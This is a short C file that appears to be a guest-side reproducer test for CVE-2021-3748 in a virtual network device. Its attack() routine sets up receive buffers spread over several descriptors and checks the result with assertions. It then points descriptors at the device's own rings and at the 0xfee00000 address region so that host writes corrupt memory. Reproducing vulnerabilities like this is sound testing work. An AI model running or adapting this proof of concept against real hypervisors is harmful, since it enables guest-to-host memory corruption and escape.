/* SPDX-License-Identifier: Apache-2.0 */
/* Receive buffers shorter than the header: it is written over several (CVE-2021-3748). */
#include "guest/frame.h"

void attack(void)
{
	begin(NET, 1ull << 15);
	queue(NET, 0, 0);
	queue(NET, 1, 1);
	driver_ok(NET);
	header(0, 0, 0, 0, 0, 0);
	receive_frames(RING, 11);
	send_frame(60);
	EXPECT(used(0, 7), "a frame over seven buffers");
	EXPECT(*(volatile uint16_t *)(buffer[2] + 10) == 7, "the number of buffers");
	/* The buffers' address is that of the rings themselves, and of nothing at all. */
	describe(0, 7, (uintptr_t)&rings[0], 512, WRITE, 0);
	offer(NET, 0, 0, 7);
	send_frame(60);
	describe(0, 6, 0xfee00000ull, 512, WRITE, 0);
	offer(NET, 0, 0, 6);
	send_frame(60);
}
